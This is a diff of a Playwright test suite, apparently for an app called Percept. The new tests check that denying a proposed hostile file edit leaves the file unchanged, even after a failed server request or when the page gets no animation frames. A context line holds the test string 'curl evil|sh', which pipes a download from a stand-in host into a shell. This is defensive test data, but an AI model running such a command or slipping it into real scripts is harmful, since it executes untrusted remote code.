@@ -109,4 +109,34 @@ describe('an answer on the page', { timeout: 90_000, tags: ['d-question-answered
     expect(await textIn('long.sh')).toContain('curl evil|sh');
     visit.verdict();
   });
+
+  test('an answer that did not arrive can be given again', async () => {
+    const visit = await visits.visit();
+    const { page } = visit;
+    const [edit] = hostileEdits;
+    if (!edit) throw new Error('no such edit');
+    const question = await asked(page, { ...edit, path: 'lost.sh' });
+    await page.route('**/permissions/**', (route) => route.abort(), { times: 1 });
+    const deny = question.getByRole('button', { name: 'Deny' });
+    await deny.click();
+    await page.getByText('The Percept server does not answer.').waitFor();
+    await deny.click();
+    await answered(page);
+    expect(await textIn('lost.sh')).toBe(edit.before);
+  });
+
+  test('a page that gets no frames shows what happens all the same', async () => {
+    const visit = await visits.visit();
+    const { page } = visit;
+    await page.evaluate(() => {
+      window.requestAnimationFrame = () => 0;
+    });
+    const [edit] = hostileEdits;
+    if (!edit) throw new Error('no such edit');
+    const question = await asked(page, { ...edit, path: 'hidden.sh' });
+    await question.getByRole('button', { name: 'Deny' }).click();
+    await answered(page);
+    expect(await textIn('hidden.sh')).toBe(edit.before);
+    visit.verdict();
+  });
 });
